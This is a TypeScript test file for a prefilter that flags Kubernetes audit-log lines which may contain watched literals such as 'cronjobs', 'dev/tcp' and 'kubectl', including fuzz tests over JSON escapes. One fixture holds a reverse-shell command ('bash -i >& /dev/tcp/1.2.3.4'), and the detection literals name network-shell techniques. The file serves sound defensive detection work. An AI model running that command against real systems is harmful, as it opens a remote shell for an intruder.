import assert from 'node:assert/strict';
import { test } from 'node:test';
import { mulberry32 } from '../../test/seeded-random.js';
import { anyOf, asciiLower, compilePrefilter, PASS_ALL, type Prefilter } from './prefilter.js';

/** Runs a prefilter over text lines; returns, per line, whether it must be decoded. */
function candidates(prefilter: Prefilter, lines: readonly string[], eol = '\n'): boolean[] {
  const chunk = Buffer.from(lines.join(eol), 'utf8');
  const visited = new Set<number>();
  const count = prefilter.scan(chunk, chunk.length, (_s, _e, index) => visited.add(index));
  return Array.from({ length: count }, (_, i) => visited.has(i));
}

const pf = compilePrefilter(anyOf(['cronjobs', 'dev/tcp']))!;
const audit = (body: string) => `{"auditID":"a1",${body}}`;

test('a line is decoded only when it could hold a literal', () => {
  const table: Array<{ name: string; line: string; expected: boolean }> = [
    { name: 'literal present', line: audit('"resource":"cronjobs"'), expected: true },
    { name: 'literal absent', line: audit('"resource":"leases"'), expected: false },
    { name: 'other case', line: audit('"resource":"CronJobs"'), expected: true },
    {
      name: 'letter hidden in \\u escape',
      line: audit('"resource":"cron\\u006Aobs"'),
      expected: true,
    },
    {
      name: 'upper-case letter in \\u escape',
      line: audit('"r":"\\u0043RONJOBS"'),
      expected: true,
    },
    {
      name: '\\/ when a literal has a slash',
      line: audit('"c":"bash -i >& \\/dev\\/tcp\\/1.2.3.4"'),
      expected: true,
    },
    {
      name: '\\u0026 (Go escapes &) is irrelevant',
      line: audit('"uri":"/api?a=1\\u0026watch=true"'),
      expected: false,
    },
    {
      name: '\\" is irrelevant without a quote literal',
      line: audit('"m":"say \\"hi\\""'),
      expected: false,
    },
    {
      name: '\\\\ may start a nested escape',
      line: audit('"log":"{\\\\u0063ronjobs}"'),
      expected: true,
    },
    { name: 'Kelvin sign folds to k', line: audit('"r":"\u212Aubectl"'), expected: true },
    { name: 'Kelvin sign as \\u212a', line: audit('"r":"\\u212aubectl"'), expected: true },
    { name: 'not a single-line object', line: '  "resource": "leases",', expected: true },
    {
      name: 'no auditID: not a raw audit record',
      line: '{"protoPayload":{"methodName":"x"}}',
      expected: true,
    },
    { name: 'blank line', line: '', expected: false },
    { name: 'after a blank line', line: audit('"r":"leases"'), expected: false },
  ];
  const got = candidates(
    pf,
    table.map((row) => row.line),
  );
  table.forEach((row, i) => {
    assert.equal(got[i], row.expected, row.name);
  });
});

test('CRLF line ends are stripped and do not change the verdict', () => {
  const lines = [audit('"r":"leases"'), audit('"r":"cronjobs"')];
  assert.deepEqual(candidates(pf, lines, '\r\n'), [false, true]);
});

test('literals that cannot be searched as ASCII disable the prefilter', () => {
  assert.equal(compilePrefilter(anyOf(['kubectl', 'ünïcode'])), undefined);
  assert.equal(compilePrefilter(anyOf([''])), undefined);
  assert.equal(compilePrefilter(undefined), undefined);
  assert.deepEqual(compilePrefilter(anyOf(['jobs', 'cronjobs', 'JOBS']))?.literals, ['jobs']);
});

test('PASS_ALL decodes every non-empty line', () => {
  assert.deepEqual(candidates(PASS_ALL, ['{"a":1}', '', 'x']), [true, false, true]);
});

test('asciiLower lowers A-Z only, aligned and unaligned', () => {
  const text = Buffer.from('Hello WORLD [\\] @`{} ÀÉ ĳ KELVIN \u212A 0123456789 AZaz', 'utf8');
  for (const offset of [0, 1, 3]) {
    const source = Buffer.alloc(text.length + offset);
    text.copy(source, offset);
    const view = source.subarray(offset);
    const target = Buffer.alloc(view.length);
    asciiLower(view, target, view.length);
    const expected = Buffer.from(view.map((b) => (b >= 0x41 && b <= 0x5a ? b | 0x20 : b)));
    assert.deepEqual(target, expected, `offset ${offset}`);
  }
});

/** JSON-encodes a string, writing random characters as \uXXXX or \/ escapes. */
function encodeWithEscapes(value: string, random: () => number): string {
  let out = '"';
  for (const ch of value) {
    const code = ch.codePointAt(0)!; // a code point exists for every char of for…of
    if (ch === '"' || ch === '\\' || code < 0x20) out += JSON.stringify(ch).slice(1, -1);
    else if (ch === '/' && random() < 0.3) out += '\\/';
    else if (code < 0x10000 && random() < 0.02) out += `\\u${code.toString(16).padStart(4, '0')}`;
    else out += ch;
  }
  return `${out}"`;
}

test('fuzz: a skipped line never holds a literal in any decoded string value', () => {
  const random = mulberry32(7);
  const literals = ['cronjobs', 'dev/tcp', 'kubectl', 'a"b'];
  const prefilter = compilePrefilter(anyOf(literals))!;
  const alphabet = [
    'c',
    'r',
    'o',
    'n',
    'j',
    'b',
    's',
    'C',
    'J',
    '/',
    'd',
    'e',
    'v',
    't',
    'p',
    'k',
    'u',
    'l',
    'a',
    ' ',
    'é',
    '&',
    'x',
  ];
  const lines: string[] = [];
  const values: string[][] = [];
  for (let i = 0; i < 4000; i++) {
    const strings: string[] = [];
    const fields: string[] = [];
    for (let f = 0; f < 3; f++) {
      let value = '';
      const length = Math.floor(random() * 12);
      for (let c = 0; c < length; c++) {
        const rare = random();
        value +=
          rare < 0.01
            ? '"'
            : rare < 0.02
              ? '\\'
              : rare < 0.025
                ? '\u212A'
                : alphabet[Math.floor(random() * alphabet.length)];
      }
      if (random() < 0.05) value += literals[Math.floor(random() * literals.length)];
      strings.push(value);
      fields.push(`"f${f}":${encodeWithEscapes(value, random)}`);
    }
    lines.push(`{"auditID":"${i}",${fields.join(',')}}`);
    values.push(strings);
  }
  const verdicts = candidates(prefilter, lines);
  let skipped = 0;
  verdicts.forEach((isCandidate, i) => {
    const parsed = JSON.parse(lines[i]!) as Record<string, string>;
    assert.deepEqual([parsed.f0, parsed.f1, parsed.f2], values[i], 'the encoder round-trips');
    const holds = values[i]!.some((v) =>
      literals.some((literal) => v.toLowerCase().includes(literal.toLowerCase())),
    );
    if (!isCandidate) {
      skipped += 1;
      assert.equal(holds, false, `line ${i} was skipped but holds a literal: ${lines[i]}`);
    }
  });
  assert.ok(skipped > 1000, `the prefilter skips a useful share (${skipped} of ${lines.length})`);
});

test('a requirement of several clauses needs one literal from each', () => {
  const both = compilePrefilter([[['jobs'], ['create', 'patch']], [['image']]])!;
  assert.deepEqual(both.literals, ['image', 'jobs'], 'one anchor clause per requirement');
  const table: Array<{ name: string; line: string; expected: boolean }> = [
    { name: 'resource and verb', line: audit('"verb":"create","r":"cronjobs"'), expected: true },
    { name: 'resource only (a read)', line: audit('"verb":"get","r":"jobs"'), expected: false },
    { name: 'verb only', line: audit('"verb":"patch","r":"leases"'), expected: false },
    { name: 'verb in another case', line: audit('"verb":"PaTcH","r":"JOBS"'), expected: true },
    { name: 'the other requirement', line: audit('"image":"x"'), expected: true },
    {
      name: 'verb behind an escape (non-anchor clause)',
      line: audit('"verb":"cr\\u0065ate","r":"jobs"'),
      expected: true,
    },
    {
      name: 'anchor behind an escape',
      line: audit('"verb":"create","r":"\\u006aobs"'),
      expected: true,
    },
  ];
  const got = candidates(
    both,
    table.map((row) => row.line),
  );
  table.forEach((row, i) => {
    assert.equal(got[i], row.expected, row.name);
  });
});

test('anchors reuse a clause another requirement already searches', () => {
  // [cronjob|manual] would add two anchors; [jobs] is already searched for the first rule.
  const prefilter = compilePrefilter([[['jobs']], [['cronjob', 'manual'], ['jobs']]])!;
  assert.deepEqual(prefilter.literals, ['jobs']);
  const got = candidates(prefilter, [audit('"a":"manual","r":"jobs"'), audit('"a":"manual"')]);
  assert.deepEqual(got, [true, false]);
});

test('fuzz: multi-clause requirements never skip a line that meets one', () => {
  const random = mulberry32(11);
  const requirements = [
    [
      ['cronjobs', 'pods'],
      ['create', 'patch'],
    ],
    [['dev/tcp'], ['bash']],
  ];
  const prefilter = compilePrefilter(requirements)!;
  const words = ['cronjobs', 'pods', 'create', 'patch', 'dev/tcp', 'bash', 'get', 'x', 'CrEaTe'];
  const lines: string[] = [];
  const values: string[] = [];
  for (let i = 0; i < 3000; i++) {
    let value = '';
    const count = Math.floor(random() * 4);
    for (let w = 0; w < count; w++) value += `${words[Math.floor(random() * words.length)]} `;
    values.push(value);
    lines.push(`{"auditID":"${i}","v":${encodeWithEscapes(value, random)}}`);
  }
  const verdicts = candidates(prefilter, lines);
  let skipped = 0;
  verdicts.forEach((isCandidate, i) => {
    const lowered = values[i]!.toLowerCase();
    const meets = requirements.some((r) => r.every((c) => c.some((l) => lowered.includes(l))));
    if (!isCandidate) {
      skipped += 1;
      assert.equal(meets, false, `line ${i} was skipped but meets a requirement: ${lines[i]}`);
    }
  });
  assert.ok(skipped > 1000, `the prefilter skips a useful share (${skipped})`);
});
